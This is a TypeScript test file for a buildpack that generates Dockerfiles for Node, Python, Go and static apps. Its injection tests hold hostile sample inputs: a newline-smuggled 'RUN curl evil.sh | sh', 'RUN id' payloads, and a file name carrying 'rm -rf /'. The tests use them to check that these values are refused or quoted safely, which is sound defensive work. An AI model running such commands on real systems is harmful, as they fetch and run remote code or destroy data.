import type { PlanRequest } from '../plan';
import { PlanError } from '../plan';
import { renderNginxConf } from '../static/nginx.conf';
import { nginxStartScript } from '../static/nginx-start.script';
import { MemoryWorkspace } from '../testing/memory-workspace';
import { testSettings } from '../testing/settings';
import { nixpacksBuildpack } from './nixpacks.buildpack';
import { dockerInstructions, generatedDockerfile, nixpacksRequest, planNixpacks } from '../testing/nixpacks-plan';

/** An Express app built with tsc: lockfile, build and start scripts. */
const nodeApp = {
  'package.json': JSON.stringify({ scripts: { build: 'tsc', start: 'node dist/main.js' }, dependencies: { express: '^4' } }),
  'package-lock.json': '{"lockfileVersion":3}',
  'src/main.ts': 'import express from "express";',
};

const DIST_WARNING =
  'the start command "npm start" (package.json start script "node dist/main.js") runs dist/main.js, which is not in the repository: ' +
  'the build must create it, or the app will not start';
/** The Node provider's defaults, as ENV lines in each stage of the Dockerfile. */
const NODE_DEFAULT_ENV = ['ENV CI="true"', 'ENV NODE_ENV="production"', 'ENV NPM_CONFIG_PRODUCTION="false"'];

/** The Python provider's defaults, as ENV lines, sorted. */
const PYTHON_DEFAULT_ENV = [
  'ENV PIP_DEFAULT_TIMEOUT="100"',
  'ENV PIP_DISABLE_PIP_VERSION_CHECK="1"',
  'ENV PIP_NO_CACHE_DIR="1"',
  'ENV PYTHONDONTWRITEBYTECODE="1"',
  'ENV PYTHONFAULTHANDLER="1"',
  'ENV PYTHONHASHSEED="random"',
  'ENV PYTHONUNBUFFERED="1"',
];

/** The ENV lines of a Dockerfile other than the Node provider's defaults. */
function ownEnv(dockerfile: string): string[] {
  return instructions(dockerfile, 'ENV').filter((line) => !NODE_DEFAULT_ENV.includes(line));
}

const request = nixpacksRequest;
const instructions = dockerInstructions;

function plan(files: Record<string, string>, req: PlanRequest = request()) {
  return planNixpacks(files, { nixpacks: req.nixpacks, env: req.env });
}

function dockerfileOf(files: Record<string, string>, req: PlanRequest = request()): string {
  return generatedDockerfile(plan(files, req));
}

/** The lines of each stage of a generated Dockerfile, each starting with its FROM line. */
function stages(dockerfile: string): string[][] {
  return dockerfile.split(/\n(?=FROM )/).map((stage) => stage.split('\n').filter((line) => line !== ''));
}

/** A RUN/CMD line read back the way the builder reads it: the JSON exec array. */
function execArgs(line: string | undefined): unknown {
  return JSON.parse((line ?? '').replace(/^(RUN|CMD) /, ''));
}

describe('nixpacksBuildpack: node', () => {
  it('writes the whole plan of an npm app: Dockerfile, summary and stored details', () => {
    expect(plan(nodeApp)).toEqual({
      buildpack: 'nixpacks',
      summary: [
        'nixpacks: detected node (npm)',
        'image: node:20-alpine',
        'node: 20 on node:20-alpine (node_image), no version asked',
        "package manager: npm (package-lock.json), the image's",
        'install: npm ci',
        'build: npm run build',
        'start: npm start',
        'runs: node dist/main.js (the package.json start script, run directly so that the app receives the stop signal)',
        'variables: CI=true (default), NODE_ENV=production (default), NPM_CONFIG_PRODUCTION=false (default)',
        `WARNING ${DIST_WARNING}`,
      ],
      details: {
        language: 'node',
        providers: ['node'],
        image: 'node:20-alpine',
        node: { major: 20, image: 'node:20-alpine', imageKey: 'node_image', asked: null },
        packageManager: 'npm',
        packageManagerVersion: null,
        packageManagerSource: 'package-lock.json',
        packageManagerInstall: null,
        configFile: null,
        phases: { setup: { nixPkgs: [], aptPkgs: [], nixLibs: [] }, install: ['npm ci'], build: ['npm run build'] },
        sources: { install: 'detected', build: 'detected', start: 'detected' },
        variables: { NODE_ENV: 'production', NPM_CONFIG_PRODUCTION: 'false', CI: 'true' },
        buildEnv: [],
        ignored: [],
        start: 'npm start',
        startShell: 'PATH=/app/node_modules/.bin:$PATH; exec node dist/main.js',
        warnings: [DIST_WARNING],
      },
      images: [
        {
          tag: 'app:1',
          context: '',
          dockerfile: '.berth/Dockerfile',
          files: {
            '.berth/Dockerfile': [
              'FROM node:20-alpine AS build',
              'WORKDIR /app',
              ...NODE_DEFAULT_ENV,
              'COPY . /app',
              'RUN ["sh","-c","npm ci"]',
              'RUN ["sh","-c","npm run build"]',
              '',
              'FROM node:20-alpine',
              'WORKDIR /app',
              ...NODE_DEFAULT_ENV,
              'COPY --from=build /app /app',
              'CMD ["sh","-c","PATH=/app/node_modules/.bin:$PATH; exec node dist/main.js"]',
              '',
            ].join('\n'),
          },
          buildArgs: {},
        },
      ],
    });
  });

  it.each([
    [{ 'package-lock.json': '{}' }, 'npm', 'npm ci', 'npm run build'],
    [{ 'npm-shrinkwrap.json': '{}' }, 'npm', 'npm ci', 'npm run build'],
    [{}, 'npm', 'npm install', 'npm run build'],
  ])("runs npm, the image's, for %j: nothing to install, started with npm start", (lockfile, manager, install, build) => {
    const files = { 'package.json': JSON.stringify({ scripts: { build: 'vite build', start: 'node server.js' } }), ...lockfile };
    const result = plan(files);
    expect(result.details).toMatchObject({ packageManager: manager, packageManagerInstall: null, phases: { install: [install], build: [build] } });
    expect(result.summary[0]).toBe(`nixpacks: detected node (${manager})`);
    const dockerfile = dockerfileOf(files);
    expect(instructions(dockerfile, 'RUN').map(execArgs)).toEqual([
      ['sh', '-c', install],
      ['sh', '-c', build],
    ]);
    expect(dockerfile).not.toContain('/opt/berth-tools');
    // npm needs no tool of its own; the start script runs directly, so the app gets the stop signal.
    expect(instructions(dockerfile, 'CMD')).toEqual(['CMD ["sh","-c","PATH=/app/node_modules/.bin:$PATH; exec node server.js"]']);
  });

  it.each([
    [{ 'yarn.lock': '# yarn lockfile v1\n' }, 'yarn', 'yarn@1', 'yarn install --frozen-lockfile'],
    [{ 'yarn.lock': '__metadata:\n  version: 8\n' }, 'yarn', '@yarnpkg/cli-dist@4', 'yarn install --immutable'],
    [{ 'pnpm-lock.yaml': "lockfileVersion: '9.0'\n" }, 'pnpm', 'pnpm@9', 'pnpm install --frozen-lockfile'],
    [{ 'pnpm-lock.yaml': "lockfileVersion: '6.0'\n" }, 'pnpm', 'pnpm@8', 'pnpm install --frozen-lockfile'],
  ])('installs the package manager of %j from npm before the source, for the build and the start command', (lockfile, manager, spec, install) => {
    const files = { 'package.json': JSON.stringify({ scripts: { build: 'vite build', start: 'node server.js' } }), 'server.js': '', ...lockfile };
    const result = plan(files);
    const setup = `npm install --global --prefix /opt/berth-tools --no-audit --no-fund ${spec}`;
    expect(result.details).toMatchObject({
      packageManager: manager,
      packageManagerInstall: spec,
      phases: { setup: { commands: [setup] }, install: [install], build: [`${manager} run build`] },
      start: `${manager} run start`,
    });
    expect(result.summary).toContain(`setup: ${setup}`);
    const [build, final] = stages(dockerfileOf(files));
    // Before the ARGs and the source, so that neither a new commit nor new env values reinstall it.
    expect(build?.slice(0, 5)).toEqual([
      'FROM node:20-alpine AS build',
      'WORKDIR /app',
      'ENV PATH=/opt/berth-tools/bin:$PATH',
      `RUN ${JSON.stringify(['sh', '-c', setup])}`,
      ...NODE_DEFAULT_ENV.slice(0, 1),
    ]);
    expect(
      build
        ?.filter((line) => line.startsWith('RUN'))
        .map(execArgs)
        .slice(1),
    ).toEqual([
      ['sh', '-c', install],
      ['sh', '-c', `${manager} run build`],
    ]);
    // The final stage keeps the tools and finds them on PATH. The image runs the start script
    // itself (start-command.ts), except under yarn berry's Plug'n'Play, which needs yarn to start.
    expect(final).toContain('ENV PATH=/opt/berth-tools/bin:$PATH');
    expect(final).toContain('COPY --from=build /opt/berth-tools /opt/berth-tools');
    const berry = JSON.stringify(lockfile).includes('__metadata');
    const cmd = berry ? `exec ${manager} run start` : 'PATH=/app/node_modules/.bin:$PATH; exec node server.js';
    expect(final?.at(-1)).toBe(`CMD ${JSON.stringify(['sh', '-c', cmd])}`);
    expect(result.details.warnings).toEqual([]);
  });

  it('prefers pnpm, then yarn, then npm when several lockfiles are present', () => {
    const both = { 'package.json': '{"scripts":{"start":"x"}}', 'package-lock.json': '{}', 'yarn.lock': '', 'pnpm-lock.yaml': '' };
    expect(plan(both).details.packageManager).toBe('pnpm');
    const { 'pnpm-lock.yaml': _pnpm, ...withoutPnpm } = both;
    expect(plan(withoutPnpm).details.packageManager).toBe('yarn');
  });

  it('runs no build without a build script (or with an empty one)', () => {
    for (const scripts of [{ start: 'node index.js' }, { start: 'node index.js', build: '  ' }, { start: 'x', build: 42 }]) {
      const files = { 'package.json': JSON.stringify({ scripts }), 'index.js': '' };
      const result = plan(files);
      expect(result.details).toMatchObject({ phases: { build: [] } });
      expect(result.summary).toContain('build: (none)');
      expect(instructions(dockerfileOf(files), 'RUN')).toEqual(['RUN ["sh","-c","npm install"]']);
    }
  });

  it.each([
    [
      'a start script',
      { 'package.json': '{"scripts":{"start":"node app.js"},"main":"lib.js"}', 'app.js': '' },
      'npm start',
      'PATH=/app/node_modules/.bin:$PATH; exec node app.js',
    ],
    ['package.json main', { 'package.json': '{"main":"dist/server.js"}', 'dist/server.js': '' }, 'node dist/server.js', 'exec node dist/server.js'],
    [
      'a main that needs quoting',
      { 'package.json': '{"main":"my app.js; rm -rf /"}', 'my app.js; rm -rf /': '' },
      "node 'my app.js; rm -rf /'",
      "exec node 'my app.js; rm -rf /'",
    ],
    ['index.js', { 'package.json': '{}', 'index.js': '' }, 'node index.js', 'exec node index.js'],
    ["server.js (npm's default start)", { 'package.json': '{}', 'server.js': '' }, 'npm start', 'PATH=/app/node_modules/.bin:$PATH; exec node server.js'],
  ])('detects the start command from %s', (_, files, start, shell) => {
    const result = plan(files);
    expect(result.details.start).toBe(start);
    expect(execArgs(instructions(dockerfileOf(files), 'CMD')[0])).toEqual(['sh', '-c', shell]);
  });

  it('refuses an app with no start command, saying how to give one', () => {
    // A build script alone (not a front-end build, which the static server serves: node-spa.ts).
    const files = { 'package.json': '{"scripts":{"build":"tsc"}}' };
    expect(() => plan(files)).toThrow(
      new PlanError(
        'nixpacks: no start command for this node app: set nixpacks.startCommand, [start] cmd in nixpacks.toml, or a Procfile "web:" line',
        'invalid_repository',
        'nixpacks.startCommand',
      ),
    );
    expect(plan({ ...files, Procfile: 'web: npx serve dist\n' }).details.start).toBe('npx serve dist');
  });

  it('takes the start command from the request, then NIXPACKS_START_CMD, nixpacks.toml, the Procfile and detection', () => {
    const files = { ...nodeApp, Procfile: 'web: node procfile.js\nworker: node worker.js\n' };
    const toml = { ...files, 'nixpacks.toml': '[start]\ncmd = "node toml.js"\n' };
    expect(plan({ ...nodeApp }).details).toMatchObject({ start: 'npm start', sources: { start: 'detected' } });
    expect(plan(files).details).toMatchObject({ start: 'node procfile.js', sources: { start: 'Procfile' } });
    expect(plan(toml).details).toMatchObject({ start: 'node toml.js', sources: { start: 'nixpacks.toml' } });
    expect(plan(toml, request(undefined, { NIXPACKS_START_CMD: 'node var.js' })).details).toMatchObject({
      start: 'node var.js',
      sources: { start: 'NIXPACKS_START_CMD' },
    });
    const all = request({ startCommand: 'node request.js', variables: { NIXPACKS_START_CMD: 'node var.js' } });
    const result = plan(toml, all);
    expect(result.details).toMatchObject({ start: 'node request.js', sources: { start: 'nixpacks.startCommand' } });
    expect(result.summary).toContain('start: node request.js (from nixpacks.startCommand)');
  });

  it('refuses a package.json that is not a JSON object', () => {
    for (const text of ['{not json', '[]', 'null', '']) {
      expect(() => plan({ 'package.json': text })).toThrow(new PlanError('package.json is not a valid JSON object', 'invalid_repository', 'package.json'));
    }
  });
});

describe('nixpacksBuildpack: python, go and static sites', () => {
  it('installs requirements.txt and starts main.py', () => {
    const files = { 'requirements.txt': 'flask==3.0.0\n', 'main.py': 'print(1)' };
    expect(dockerfileOf(files)).toBe(
      [
        'FROM python:3.11-slim AS build',
        'WORKDIR /app',
        ...PYTHON_DEFAULT_ENV,
        'ENV PATH=/opt/venv/bin:$PATH',
        'COPY . /app',
        'RUN ["sh","-c","python3 -m venv --copies /opt/venv && . /opt/venv/bin/activate && pip install -r requirements.txt"]',
        '',
        'FROM python:3.11-slim',
        'WORKDIR /app',
        ...PYTHON_DEFAULT_ENV,
        'ENV PATH=/opt/venv/bin:$PATH',
        // pip installed into the venv: the image keeps it with the app (and /usr/local, for a pip outside it).
        'COPY --from=build /usr/local /usr/local',
        'COPY --from=build /opt/venv /opt/venv',
        'COPY --from=build /app /app',
        'CMD ["sh","-c","exec python main.py"]',
        '',
      ].join('\n'),
    );
    expect(plan(files).summary.slice(0, 2)).toEqual(['nixpacks: detected python', 'image: python:3.11-slim']);
  });

  it('installs a pyproject.toml project and starts app.py, or the Procfile before it', () => {
    const files = { 'pyproject.toml': '[project]\nname = "x"\n', 'app.py': '' };
    const install = 'python3 -m venv --copies /opt/venv && . /opt/venv/bin/activate && pip install --upgrade build setuptools && pip install .';
    expect(plan(files).details).toMatchObject({ language: 'python', phases: { install: [install] }, start: 'python app.py' });
    expect(plan({ ...files, Procfile: 'web: gunicorn app:app --bind 0.0.0.0:$PORT' }).details.start).toBe('gunicorn app:app --bind 0.0.0.0:$PORT');
  });

  it('needs a start command for a python app without main.py or app.py', () => {
    expect(() => plan({ 'requirements.txt': 'django' })).toThrow(expect.objectContaining({ field: 'nixpacks.startCommand' }));
  });

  it('builds a Go module into a binary and runs it', () => {
    const files = { 'go.mod': 'module example.com/app\n\ngo 1.22\n', 'go.sum': '', 'main.go': 'package main' };
    expect(dockerfileOf(files)).toBe(
      [
        'FROM golang:1.22-alpine AS build',
        'WORKDIR /app',
        'ENV CGO_ENABLED="0"',
        'COPY . /app',
        'RUN ["sh","-c","go mod download"]',
        'RUN ["sh","-c","go build -o /app/out ."]',
        '',
        'FROM golang:1.22-alpine',
        'WORKDIR /app',
        'ENV CGO_ENABLED="0"',
        'COPY --from=build /app /app',
        'CMD ["sh","-c","exec /app/out"]',
        '',
      ].join('\n'),
    );
  });

  it('skips go mod download without a go.sum, and avoids a folder called out', () => {
    expect(plan({ 'go.mod': 'module x\n', 'main.go': '', 'server/handler.go': '' }).details).toMatchObject({ start: '/app/out' });
    const result = plan({ 'go.mod': 'module x\n', 'main.go': '', 'out/handler.go': '' });
    expect(result.details).toMatchObject({ phases: { install: [], build: ['go build -o /app/.berth-out .'] }, start: '/app/.berth-out' });
  });

  it('detects Go before Node and Node before Python, as Nixpacks does', () => {
    const goWithTailwind = { 'go.mod': 'module x\n', 'main.go': '', 'package.json': '{"scripts":{"build":"tailwindcss"}}' };
    expect(plan(goWithTailwind).details).toMatchObject({ language: 'go', providers: ['go', 'node'] });
    const nodeWithScripts = { ...nodeApp, 'requirements.txt': '', 'index.html': '' };
    expect(plan(nodeWithScripts).details).toMatchObject({ language: 'node', providers: ['node', 'python', 'staticfile'] });
  });

  it('serves a plain site with nginx and lists what cannot apply to it', () => {
    const files = { 'index.html': '<h1>hi</h1>', 'about.html': '', Procfile: 'web: python -m http.server' };
    const result = plan(files, request({ buildCommand: 'make' }, { API_URL: 'https://api' }));
    expect(result.images).toEqual([
      {
        tag: 'app:1',
        context: '',
        dockerfile: '.berth/Dockerfile',
        files: {
          '.berth/Dockerfile': [
            'FROM nginx:alpine',
            'COPY .berth/nginx.conf /etc/nginx/conf.d/default.conf',
            'COPY .berth/nginx-start.sh /etc/nginx/berth-start.sh',
            'COPY . /usr/share/nginx/html/',
            'ENTRYPOINT ["sh","/etc/nginx/berth-start.sh"]',
            '',
          ].join('\n'),
          '.berth/nginx.conf': renderNginxConf({ spa: false }),
          '.berth/nginx-start.sh': nginxStartScript,
        },
        buildArgs: {},
      },
    ]);
    expect(result.summary).toEqual([
      'nixpacks: detected staticfile',
      'image: nginx:alpine',
      'serve: ./ with nginx, spa fallback off',
      'ignored: build (nixpacks.buildCommand), start (Procfile), API_URL',
    ]);
    expect(result.details).toMatchObject({ language: 'staticfile', start: null, phases: { install: [], build: [] } });
  });

  it('refuses a repository with no detectable language, listing what it looked for', () => {
    expect(() => plan({ 'README.md': '# hi', 'src/index.php': '<?php' })).toThrow(
      new PlanError(
        "nixpacks: could not detect the app's language; looked for go.mod or main.go (go); package.json (node); " +
          'requirements.txt, pyproject.toml, Pipfile, setup.py or main.py (python); ' +
          'Staticfile, index.html, or a public, dist or index folder (static site)',
      ),
    );
    expect(() => plan({})).toThrow(expect.objectContaining({ code: 'invalid_repository' }));
    // A directory named like a marker is not the marker file.
    expect(() => plan({ 'package.json/x': '', 'index.html/y': '' })).toThrow(PlanError);
  });

  it('takes every base image from the settings', () => {
    const settings = testSettings({
      images: { node: 'registry.local/node:22', python: 'py:3.12', go: 'go:1.23', staticBuilder: 'b', staticServer: 'caddy:2' },
    });
    const image = (files: Record<string, string>): string[] =>
      instructions(nixpacksBuildpack(new MemoryWorkspace(files), request(), settings).images[0]?.files['.berth/Dockerfile'] ?? '', 'FROM');
    expect(image(nodeApp)).toEqual(['FROM registry.local/node:22 AS build', 'FROM registry.local/node:22']);
    expect(image({ 'main.py': '' })).toEqual(['FROM py:3.12 AS build', 'FROM py:3.12']);
    expect(image({ 'go.mod': 'module x' })).toEqual(['FROM go:1.23 AS build', 'FROM go:1.23']);
    expect(image({ 'index.html': '' })).toEqual(['FROM caddy:2']);
  });

  it('refuses a base image from the settings that would add instructions', () => {
    const settings = testSettings({
      images: { node: 'node:20\nRUN id', python: 'p', go: 'g', staticBuilder: 'b', staticServer: 's' },
    });
    expect(() => nixpacksBuildpack(new MemoryWorkspace(nodeApp), request(), settings)).toThrow(expect.objectContaining({ field: 'images.node' }));
  });
});

describe('nixpacksBuildpack: overrides and variables', () => {
  it('applies nixpacks.toml phases, variables and setup packages, and reports what it cannot install', () => {
    const toml = [
      'providers = ["node"]',
      '[variables]',
      'NODE_ENV = "production"',
      'PORT = 8080',
      '[phases.setup]',
      'nixPkgs = ["...", "ffmpeg"]',
      'aptPkgs = ["libvips"]',
      '[phases.install]',
      'cmds = ["...", "npx prisma generate"]',
      '[phases.build]',
      'cmds = ["npm run build:prod"]',
      'dependsOn = ["install"]',
      '[start]',
      'cmd = "node dist/server.js"',
    ].join('\n');
    const result = plan({ ...nodeApp, 'nixpacks.toml': toml });
    expect(result.summary).toEqual([
      'nixpacks: node (npm) (from nixpacks.toml providers)',
      'image: node:20-alpine',
      'node: 20 on node:20-alpine (node_image), no version asked',
      "package manager: npm (package-lock.json), the image's",
      'config: nixpacks.toml',
      'setup: WARNING ignored ffmpeg, libvips: Nix and apt packages cannot be installed here',
      'install: npm ci && npx prisma generate (from nixpacks.toml)',
      'build: npm run build:prod (from nixpacks.toml)',
      'start: node dist/server.js (from nixpacks.toml)',
      'variables: CI=true (default), NODE_ENV=production (default), NPM_CONFIG_PRODUCTION=false (default), PORT',
      'ignored: phases.build.dependsOn',
    ]);
    expect(result.details.phases).toEqual({
      setup: {
        nixPkgs: ['ffmpeg'],
        aptPkgs: ['libvips'],
        nixLibs: [],
        note: 'Nix and apt packages cannot be installed: the app is built on the configured base image, which has no package manager',
      },
      install: ['npm ci', 'npx prisma generate'],
      build: ['npm run build:prod'],
    });
    expect(dockerfileOf({ ...nodeApp, 'nixpacks.toml': toml })).toBe(
      [
        'FROM node:20-alpine AS build',
        'WORKDIR /app',
        ...NODE_DEFAULT_ENV,
        'ENV PORT="8080"',
        'COPY . /app',
        'RUN ["sh","-c","npm ci"]',
        'RUN ["sh","-c","npx prisma generate"]',
        'RUN ["sh","-c","npm run build:prod"]',
        '',
        'FROM node:20-alpine',
        'WORKDIR /app',
        ...NODE_DEFAULT_ENV,
        'ENV PORT="8080"',
        'COPY --from=build /app /app',
        'CMD ["sh","-c","exec node dist/server.js"]',
        '',
      ].join('\n'),
    );
  });

  it('reads nixpacks.json the same way, and nixpacks.toml first when both exist', () => {
    const json = JSON.stringify({ phases: { build: { cmds: ['make'] } }, start: { cmd: 'node json.js' }, variables: { A: 'json' } });
    const fromJson = plan({ ...nodeApp, 'nixpacks.json': json });
    expect(fromJson.details).toMatchObject({ configFile: 'nixpacks.json', phases: { build: ['make'] }, start: 'node json.js', variables: { A: 'json' } });
    const both = plan({ ...nodeApp, 'nixpacks.json': json, 'nixpacks.toml': '[start]\ncmd = "node toml.js"' });
    expect(both.details).toMatchObject({ configFile: 'nixpacks.toml', start: 'node toml.js', variables: {} });
  });

  it('lets NIXPACKS_*_CMD variables override the config file, and request options override both', () => {
    const files = { ...nodeApp, 'nixpacks.toml': '[phases.install]\ncmds = ["npm ci --omit=dev"]\n[phases.build]\ncmds = ["make"]' };
    const viaEnv = plan(files, request(undefined, { NIXPACKS_INSTALL_CMD: 'npm install', NIXPACKS_BUILD_CMD: 'npm run compile' }));
    expect(viaEnv.details).toMatchObject({
      phases: { install: ['npm install'], build: ['npm run compile'] },
      sources: { install: 'NIXPACKS_INSTALL_CMD', build: 'NIXPACKS_BUILD_CMD' },
    });
    const viaRequest = plan(
      files,
      request({ installCommand: 'yarn', buildCommand: 'yarn build', variables: { NIXPACKS_BUILD_CMD: 'no' } }, { NIXPACKS_INSTALL_CMD: 'no' }),
    );
    expect(viaRequest.details).toMatchObject({
      phases: { install: ['yarn'], build: ['yarn build'] },
      sources: { install: 'nixpacks.installCommand', build: 'nixpacks.buildCommand' },
    });
  });

  it('treats an empty NIXPACKS_BUILD_CMD as "no build" and keeps NIXPACKS_* variables out of the image', () => {
    const built = { ...nodeApp, 'dist/main.js': '' };
    const result = plan(built, request({ variables: { NIXPACKS_BUILD_CMD: '', NIXPACKS_NODE_VERSION: '20', NIXPACKS_PKGS: 'ffmpeg', APP: '1' } }));
    expect(result.details).toMatchObject({ phases: { build: [] }, variables: { APP: '1' }, ignored: ['NIXPACKS_PKGS'] });
    expect(result.summary).toContain('build: (none) (from NIXPACKS_BUILD_CMD)');
    expect(result.summary).toContain('node: 20 on node:20-alpine (node_image), asked "20" in NIXPACKS_NODE_VERSION');
    expect(result.summary).toContain('ignored: NIXPACKS_PKGS');
    const dockerfile = dockerfileOf(built, request({ variables: { NIXPACKS_BUILD_CMD: '', APP: '1' } }));
    expect(ownEnv(dockerfile)).toEqual(['ENV APP="1"', 'ENV APP="1"']);
    expect(dockerfile).not.toContain('NIXPACKS');
  });

  it('sets variables as ENV for build and run time; env only for the build: config, then env, then nixpacks.variables winning', () => {
    const files = { ...nodeApp, 'nixpacks.toml': '[variables]\nA = "toml"\nB = "toml"\nC = "toml"' };
    const req = request({ variables: { C: 'request' } }, { B: 'env', C: 'env' });
    const result = plan(files, req);
    expect(result.details).toMatchObject({ variables: { A: 'toml', B: 'toml', C: 'request' }, buildEnv: ['B'] });
    expect(result.images[0]?.buildArgs).toEqual({ B: 'env' });
    const [build, final] = stages(dockerfileOf(files, req));
    // Before the install and build steps, so they see the values; env's B as an ARG, which an ENV B would hide.
    expect(build?.slice(1, 9)).toEqual(['WORKDIR /app', 'ARG B', 'ENV A="toml"', 'ENV C="request"', ...NODE_DEFAULT_ENV, 'COPY . /app']);
    // At run time the variables hold; env's value for B does not, the config file's does.
    expect(ownEnv(final?.join('\n') ?? '')).toEqual(['ENV A="toml"', 'ENV B="toml"', 'ENV C="request"']);
  });
});

describe('nixpacksBuildpack: Node default variables', () => {
  it('sets NODE_ENV, NPM_CONFIG_PRODUCTION and CI as Nixpacks does: while building and at run time', () => {
    const [build, final] = stages(dockerfileOf(nodeApp));
    // Before COPY and the install step, so `npm ci` keeps devDependencies and tools see CI.
    expect(build?.slice(2, 6)).toEqual([...NODE_DEFAULT_ENV, 'COPY . /app']);
    expect(instructions(final?.join('\n') ?? '', 'ENV')).toEqual(NODE_DEFAULT_ENV);
  });

  it('lets nixpacks.toml [variables] and nixpacks.variables override a default, in the build and the image', () => {
    const files = { ...nodeApp, 'nixpacks.toml': '[variables]\nNODE_ENV = "staging"\nCI = "toml"' };
    const result = plan(files, request({ variables: { CI: 'false' } }));
    expect(result.details).toMatchObject({ variables: { NODE_ENV: 'staging', NPM_CONFIG_PRODUCTION: 'false', CI: 'false' } });
    expect(result.summary).toContain('variables: CI, NODE_ENV, NPM_CONFIG_PRODUCTION=false (default)');
    const dockerfile = dockerfileOf(files, request({ variables: { CI: 'false' } }));
    expect(instructions(dockerfile, 'ENV').filter((line) => /NODE_ENV|CI=/.test(line))).toEqual([
      'ENV CI="false"',
      'ENV NODE_ENV="staging"',
      'ENV CI="false"',
      'ENV NODE_ENV="staging"',
    ]);
  });

  it("lets the build's env override a default for the build only: an ARG, and the image keeps the default", () => {
    const req = request(undefined, { NODE_ENV: 'development' });
    const result = plan(nodeApp, req);
    expect(result.images[0]?.buildArgs).toEqual({ NODE_ENV: 'development' });
    expect(result.summary).toContain('variables: CI=true (default), NODE_ENV, NPM_CONFIG_PRODUCTION=false (default)');
    const [build, final] = stages(dockerfileOf(nodeApp, req));
    expect(build).toContain('ARG NODE_ENV');
    expect(build).not.toContain('ENV NODE_ENV="production"');
    expect(final).toContain('ENV NODE_ENV="production"');
  });

  it('sets no Node defaults for another language', () => {
    const result = plan({ 'requirements.txt': 'flask', 'app.py': '', Procfile: 'web: python app.py' });
    expect(result.details).toMatchObject({ language: 'python' });
    expect(Object.keys(result.details.variables as object)).not.toContain('NODE_ENV');
    expect(instructions(result.images[0]?.files['.berth/Dockerfile'] ?? '', 'ENV').join('\n')).not.toMatch(/NODE_ENV|NPM_CONFIG|CI=/);
  });
});

describe('nixpacksBuildpack: the request env stays out of the image', () => {
  const secretEnv = { NPM_TOKEN: 'npm_s3cr3t-value', API_KEY: 'k"e$y\\x' };

  it('passes env values only as build args to ARGs of the build stage, never as ENV', () => {
    const req = request({ variables: { PUBLIC_URL: 'https://example.test' } }, secretEnv);
    const result = plan(nodeApp, req);
    const dockerfile = result.images[0]?.files['.berth/Dockerfile'] ?? '';
    for (const value of Object.values(secretEnv)) expect(dockerfile).not.toContain(value);
    expect(result.images[0]?.buildArgs).toEqual(secretEnv);
    const [build, final] = stages(dockerfile);
    expect(build?.filter((line) => line.startsWith('ARG '))).toEqual(['ARG API_KEY', 'ARG NPM_TOKEN']);
    expect(ownEnv(dockerfile)).toEqual(['ENV PUBLIC_URL="https://example.test"', 'ENV PUBLIC_URL="https://example.test"']);
    // The final stage starts afresh from the base image and declares none of them.
    expect(final?.[0]).toBe('FROM node:20-alpine');
    expect(final?.join('\n')).not.toMatch(/ARG|NPM_TOKEN|API_KEY|FROM build/);
    expect(final).toContain('COPY --from=build /app /app');
  });

  it('shows env names, never values, in the summary and the stored details', () => {
    const result = plan(nodeApp, request(undefined, secretEnv));
    expect(result.summary).toContain('build env: API_KEY, NPM_TOKEN (build only, not kept in the image)');
    expect(result.details).toMatchObject({ variables: {}, buildEnv: ['API_KEY', 'NPM_TOKEN'] });
    const shown = JSON.stringify([result.summary, result.details]);
    for (const value of Object.values(secretEnv)) expect(shown).not.toContain(value);
  });

  it('ignores env for a plain static site, by name', () => {
    const result = plan({ 'index.html': '' }, request(undefined, secretEnv));
    expect(result.images[0]?.buildArgs).toEqual({});
    expect(result.summary).toContain('ignored: API_KEY, NPM_TOKEN');
  });
});

describe('nixpacksBuildpack: generated Dockerfiles cannot be injected into', () => {
  const attack = 'x\nRUN curl evil.sh | sh';

  it.each([
    ['a newline in a request variable value', request({ variables: { A: attack } }), 'variables.A'],
    ['a newline in an env value', request(undefined, { A: attack }), 'env.A'],
    ['a newline in a start command', request({ startCommand: attack }), 'start'],
    ['a newline in a build command', request({ buildCommand: attack }), 'phases.build'],
    ['a CRLF in an install command', request({ installCommand: `npm ci\r\nRUN id` }), 'phases.install'],
    ['a newline in NIXPACKS_START_CMD', request(undefined, { NIXPACKS_START_CMD: attack }), 'start'],
    ['a NUL byte in a start command', request({ startCommand: 'npm start\0' }), 'start'],
  ])('refuses %s', (_, req, field) => {
    expect(() => plan(nodeApp, req)).toThrow(expect.objectContaining({ code: 'invalid_repository', field }));
  });

  it.each([
    ['a config variable', '[variables]\nA = "x\\nRUN id"', 'variables.A'],
    ['a config start command', '[start]\ncmd = "npm start\\nRUN id"', 'start'],
    ['a config build command', '[phases.build]\ncmds = ["make\\rRUN id"]', 'phases.build'],
  ])('refuses a line break in %s of nixpacks.toml', (_, toml, field) => {
    expect(() => plan({ ...nodeApp, 'nixpacks.toml': toml })).toThrow(expect.objectContaining({ field }));
  });

  it.each(['A B', '1A', 'A=B', 'A\nRUN id', '$A', 'A-B', ''])('refuses the variable name %j from the request', (name) => {
    expect(() => plan(nodeApp, request({ variables: { [name]: 'v' } }))).toThrow(PlanError);
  });

  it('refuses a bad variable name from nixpacks.toml naming the file, even for a static site', () => {
    const toml = '[variables]\n"A\\nRUN id" = "v"';
    const error = new PlanError(
      'nixpacks.toml: variables holds "A\\nRUN id", which is not a variable name (letters, digits and _, not starting with a digit)',
      'invalid_repository',
      'nixpacks.toml',
    );
    expect(() => plan({ ...nodeApp, 'nixpacks.toml': toml })).toThrow(error);
    expect(() => plan({ 'index.html': '', 'nixpacks.toml': toml })).toThrow(error);
  });

  it('keeps quotes, brackets, $ and backslashes inside one instruction', () => {
    const start = 'node -e "console.log(\\"]\\")" $HOME `id`';
    const value = "a\"b\\c$HOME ${X} 'q'";
    const dockerfile = dockerfileOf(nodeApp, request({ startCommand: start, buildCommand: 'x"] && RUN ["id', variables: { V: value } }));
    const lines = dockerfile.split('\n');
    expect(lines).toHaveLength(13 + 2 * NODE_DEFAULT_ENV.length);
    expect(execArgs(instructions(dockerfile, 'CMD')[0])).toEqual(['sh', '-c', start]);
    expect(execArgs(instructions(dockerfile, 'RUN')[1])).toEqual(['sh', '-c', 'x"] && RUN ["id']);
    const env = 'ENV V="a\\"b\\\\c\\$HOME \\${X} \'q\'"';
    expect(ownEnv(dockerfile)).toEqual([env, env]);
  });

  it('cannot be injected through the Procfile or package.json', () => {
    const procfile = plan({ ...nodeApp, Procfile: 'web: node a.js"]\nRUN ["id' });
    expect(procfile.images[0]?.files['.berth/Dockerfile']).toContain('CMD ["sh","-c","node a.js\\"]"]\n');
    expect(() => plan({ 'package.json': JSON.stringify({ main: 'a.js\nRUN id' }), 'a.js\nRUN id': '' })).toThrow(expect.objectContaining({ field: 'start' }));
  });
});
